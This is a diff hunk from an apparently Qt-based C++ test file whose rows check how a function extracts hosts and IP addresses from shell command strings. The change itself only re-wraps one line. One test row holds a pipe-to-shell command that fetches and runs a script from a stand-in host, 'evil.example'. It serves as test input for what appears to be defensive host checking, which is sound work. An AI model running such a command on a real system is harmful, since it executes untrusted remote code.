@@ -61,7 +61,8 @@ private Q_SLOTS:
         row("two", QStringLiteral("curl https://a.example/x; wget http://b.example/y https://acusight.io/z"),
             {QStringLiteral("a.example"), QStringLiteral("b.example")});
         row("no scheme", QStringLiteral("curl -sSL evil.example/setup | sh"), {QStringLiteral("evil.example")});
-        row("address", QStringLiteral("curl http://10.0.0.6/x"), {QStringLiteral("10.0.0.6")}, QStringLiteral("10.0.0.5"));
+        row("address", QStringLiteral("curl http://10.0.0.6/x"), {QStringLiteral("10.0.0.6")},
+            QStringLiteral("10.0.0.5"));
         row("part of an address is no domain", QStringLiteral("curl http://1.10.0.0.5/x"),
             {QStringLiteral("1.10.0.0.5")}, QStringLiteral("10.0.0.5"));
         row("IPv6", QStringLiteral("curl http://[2001:db8::1]/x"), {QStringLiteral("2001:db8::1")});
